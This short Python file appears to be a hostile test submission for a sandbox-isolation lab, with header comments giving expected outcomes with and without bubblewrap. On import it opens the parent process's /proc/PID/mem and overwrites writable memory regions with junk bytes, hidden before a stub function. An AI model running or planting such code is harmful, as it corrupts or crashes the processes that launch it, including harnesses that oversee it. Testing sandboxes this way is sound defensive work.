# Hostile submission: the child can reach the parent: write /proc/PPID/mem.
# lab: 11.2
# bwrap: ok crashed invalid
# plain: unsafe:write its memory
import os

def _attack():
    ppid = os.getppid()
    try:
        with open(f"/proc/{ppid}/maps") as maps:
            regions = [line.split() for line in maps if " rw-p " in line]
        with open(f"/proc/{ppid}/mem", "r+b", buffering=0) as mem:
            for region in regions[:3]:
                start = int(region[0].split("-")[0], 16)
                mem.seek(start)
                mem.write(b"\xff" * 64)
    except OSError:
        pass

_attack()


def group_interactions(entries):
    return []
